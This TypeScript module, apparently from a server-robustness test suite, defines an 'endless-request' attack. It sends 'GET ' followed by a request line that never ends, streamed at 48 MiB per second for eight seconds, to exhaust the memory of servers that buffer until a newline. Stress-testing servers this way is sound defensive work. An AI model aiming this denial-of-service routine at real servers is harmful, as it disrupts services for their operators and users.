import {pour} from '../pour.ts';
import {serverAttack} from '../server-attack.ts';
import {reach} from '../wire.ts';

const BLOCK = Buffer.alloc(64 * 1024, 'n');

/** How long it goes on, in milliseconds, and how fast: whoever keeps it all has swallowed 384 MiB by then. */
const HOLD_MS = 8000;
const BYTES_PER_SECOND = 48 * 1024 * 1024;

/** A request line without end: whoever waits for the newline with a growing buffer runs out of memory. */
export const endlessRequest = serverAttack({
	name: 'endless-request',
	title: 'sends a request line that never ends',
	async strikeAt(prey, scene) {
		const socket = await reach(prey, {signal: scene.signal, from: scene.listenOn.address});
		if (socket !== undefined) {
			const giveUp = setTimeout(() => socket.destroy(), HOLD_MS);
			socket.write('GET ');
			await pour(socket, () => BLOCK, {strike: scene.strike, bytesPerSecond: BYTES_PER_SECOND});
			clearTimeout(giveUp);
		}
	},
});
